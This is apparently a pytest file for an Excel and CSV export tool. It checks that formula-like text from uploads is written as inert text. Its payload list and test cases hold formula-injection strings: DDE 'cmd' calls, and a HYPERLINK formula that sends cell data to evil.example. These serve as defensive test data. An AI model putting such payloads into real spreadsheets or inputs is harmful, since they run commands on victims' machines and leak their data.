"""Every workbook and CSV HQD writes holds text as text: no cell a spreadsheet would evaluate."""

from __future__ import annotations

import csv
import io
import re
import tomllib
import zipfile

import openpyxl
import pandas as pd
import pytest
from factories import make_catalog, make_csv, make_observations

from hqd.settings import ROOT
from hqd.workbook import CATALOG_SHEET, DATA_SHEET, GUIDE_SHEET, export_csv, export_xlsx, write_template

# What an attacker types into a note, a department or a name (OWASP's list of formula starts).
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
]
# <f> (a formula) or <f .../> (a shared one); <formula1> of a data validation is not a cell.
FORMULA_ELEMENT = re.compile(rb"<(?:\w+:)?f[\s>/]")


def formulas(content: bytes) -> list[str]:
    """Return every formula in a workbook: cells openpyxl reads as formulas, and <f> in the sheet XML."""
    book = openpyxl.load_workbook(io.BytesIO(content), data_only=False)
    found = [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type in ("f", "e")
    ]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        found += [
            n for n in archive.namelist() if n.startswith("xl/worksheets/") and FORMULA_ELEMENT.search(archive.read(n))
        ]
    return found


def text_cells(content: bytes) -> list[tuple[str, str, str, bool]]:
    """Return every text cell of a workbook as (sheet, coordinate, value, quote prefix)."""
    book = openpyxl.load_workbook(io.BytesIO(content), data_only=False)
    return [
        (sheet.title, cell.coordinate, cell.value, cell.quotePrefix)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]


def hostile_catalog(payload: str):
    return make_catalog(
        [
            {"code": "A1", "programme": "A", "task": "A-1", "department": payload},
            {"code": "A2", "programme": "A", "task": "A-1", "name_zh": payload, "unit": payload, "name_en": payload},
        ]
    )


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
def test_template_writes_hostile_text_as_text(payload):
    catalog = hostile_catalog(payload)
    notes = make_observations([("A1", 2021, 1.0, payload), ("A2", 2022, 2.0, "普通备注")])
    content = write_template(catalog, notes, title_note=payload)
    assert formulas(content) == []
    # The catalog strips names and departments, and XML reads a carriage return back as a line feed.
    stored = payload.replace("\r", "\n")
    hostile = [c for c in text_cells(content) if c[2] in {stored, payload.strip()}]
    assert {sheet for sheet, *_ in hostile} == {GUIDE_SHEET, DATA_SHEET, CATALOG_SHEET}
    assert {quoted for *_, quoted in hostile} == {payload != "#N/A"}
    data = openpyxl.load_workbook(io.BytesIO(content))[DATA_SHEET]
    note = [c.value for c in data[2]][-1]
    assert note == stored
    assert (DATA_SHEET, data.cell(row=3, column=data.max_column).coordinate, "普通备注", False) in text_cells(content)


def test_template_of_one_hostile_department_is_still_text():
    payload = PAYLOADS[0]
    content = write_template(hostile_catalog(payload), department=payload)
    assert formulas(content) == []
    data = openpyxl.load_workbook(io.BytesIO(content))[DATA_SHEET]
    assert [c.value for c in data["A"]] == ["指标编码", "A1"]


@pytest.mark.usefixtures("initialised")
def test_template_from_the_command_line_after_a_hostile_upload(cli, tmp_path):
    """The attack as reported: notes uploaded in a CSV come back as formulas in `python -m hqd template`."""
    upload = tmp_path / "notes.csv"
    upload.write_bytes(make_csv([["指标编码", "年份", "数值", "备注"], ["INN01", 2023, 5, PAYLOADS[0]]]))
    cli("import", str(upload), "--user", "attacker")
    cli("template", str(tmp_path / "template.xlsx"))
    content = (tmp_path / "template.xlsx").read_bytes()
    assert formulas(content) == []
    assert (DATA_SHEET, PAYLOADS[0], True) in [
        (sheet, value, quoted) for sheet, _, value, quoted in text_cells(content)
    ]


def hostile_table(payload: str) -> pd.DataFrame:
    return pd.DataFrame(
        {
            "编码": ["A1", "A2", "A3"],
            payload: [payload, "普通", None],
            "2021": [-5.0, float("nan"), 3.0],
            "备注": pd.array([payload, pd.NA, "-5"], dtype="object"),
        }
    )


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
def test_xlsx_export_writes_title_note_header_and_cells_as_text(payload):
    content = export_xlsx(hostile_table(payload), payload, note=payload)
    assert formulas(content) == []
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    stored = payload.replace("\r", "\n")  # XML reads a carriage return back as a line feed
    assert rows == [
        [stored, None, None, None],
        [stored, None, None, None],
        ["编码", stored, "2021", "备注"],
        ["A1", stored, -5, stored],
        ["A2", "普通", None, None],
        ["A3", None, 3, "-5"],
    ]
    # Title, sample-data note, header and cells all carry Excel's "this is text" flag.
    assert {sheet[c].quotePrefix for c in ("A1", "A2", "B3", "B4", "D4")} == {payload != "#N/A"}


def test_exports_drop_the_control_characters_a_workbook_cannot_hold():
    text = "".join(map(chr, range(32))) + "备注"
    content = export_xlsx(pd.DataFrame({"备注": [text]}), "导出", note=text)
    # Tab, line feed and carriage return are kept (XML reads the carriage return back as a line feed).
    assert openpyxl.load_workbook(io.BytesIO(content)).active["A4"].value == "\t\n\n备注"
    notes = make_observations([("A1", 2021, 1.0, "来源\x07统计局\x1b")])
    content = write_template(hostile_catalog("局"), notes)
    assert "来源统计局" in [value for _, _, value, _ in text_cells(content)]


@pytest.mark.parametrize(
    ("value", "field"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-5+A1", "'-5+A1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        # A line break inside a field must not start a new row whose first cell is a formula.
        ("备注\r=cmd|' /C calc'!A0", "备注\r=cmd|' /C calc'!A0"),
        ("备注\n=1+1", "备注\n=1+1"),
        # Text that is a plain number is read as that number: nothing to neutralise.
        ("-5", "-5"),
        ("+12.5%", "+12.5%"),
        ("-1.5e3", "-1.5e3"),
        ("1+1", "1+1"),
        ("普通=文本", "普通=文本"),
        (-5.0, "-5.0"),
    ],
)
def test_csv_export_neutralises_formula_like_text_only(value, field):
    table = pd.DataFrame({"编码": ["A1"], "值": pd.array([value], dtype="object")})
    rows = list(csv.reader(io.StringIO(export_csv(table).decode("utf-8-sig"), newline="")))
    assert rows == [["编码", "值"], ["A1", field]]


def test_csv_export_neutralises_the_header_too():
    table = pd.DataFrame({'=HYPERLINK("http://x")': ["a"], "2021": [1.0]})
    rows = list(csv.reader(io.StringIO(export_csv(table).decode("utf-8-sig"), newline="")))
    assert rows[0] == ['\'=HYPERLINK("http://x")', "2021"]


def test_streamlit_offers_no_download_of_its_own():
    """st.dataframe's "Download as CSV" writes raw text, formulas included; it is off for every table.

    Streamlit 1.67 has this one switch for all tables and no per-table parameter; the browser test
    (tests/browser/test_exports.py) checks that the toolbar really shows no download.
    """
    settings = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert settings["client"]["disableDataExport"] is True


# --- issue 11: numbers formatted by their unit, the sample-data note in the CSV too ---

NUMBERS = pd.DataFrame(
    {
        "指标": ["新型研发机构数", "固定资产投资", "单位能耗"],
        "2024": [6.999999999999999, 267.9780598931892, 0.3512],
        "完成度": [80.0, -28.4, 112.5],
        "年数": [3, 4, 5],
    }
)
FORMATS = {"2024": ["#,##0", "#,##0.0", "0.0##"], "完成度": ['0"%"'] * 3}


def test_xlsx_export_formats_numbers_by_unit_and_keeps_their_values():
    sheet = openpyxl.load_workbook(io.BytesIO(export_xlsx(NUMBERS, "导出", note="示例", formats=FORMATS))).active
    cells = [[sheet.cell(row=r, column=c) for c in range(2, 5)] for r in range(4, 7)]
    assert [[c.number_format for c in row] for row in cells] == [
        ["#,##0", '0"%"', "General"],
        ["#,##0.0", '0"%"', "General"],
        ["0.0##", '0"%"', "General"],
    ]
    # The values are the ones given: the format rounds them for the eye only.
    assert cells[1][0].value == 267.9780598931892 and cells[0][1].value == 80


def test_xlsx_export_never_leaves_a_fraction_in_the_general_format():
    sheet = openpyxl.load_workbook(io.BytesIO(export_xlsx(NUMBERS, "导出"))).active
    assert {sheet.cell(row=r, column=2).number_format for r in range(3, 6)} == {"#,##0.0##"}
    assert sheet.cell(row=3, column=4).number_format == "General"  # whole numbers stay as they are


@pytest.mark.parametrize(
    ("note", "first"),
    [
        ("示例数据：数值仅为演示，并非真实统计。", "示例数据：数值仅为演示，并非真实统计。"),
        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
    ],
)
def test_csv_export_carries_the_note_on_its_first_line_quoted_and_neutralised(note, first):
    content = export_csv(NUMBERS, note=note).decode("utf-8-sig")
    assert content.startswith('"')
    rows = list(csv.reader(io.StringIO(content, newline="")))
    assert rows[0] == [first]
    assert rows[1] == ["指标", "2024", "完成度", "年数"] and len(rows) == 5


def test_csv_export_without_a_note_starts_with_the_header():
    assert export_csv(NUMBERS).decode("utf-8-sig").startswith("指标,2024")
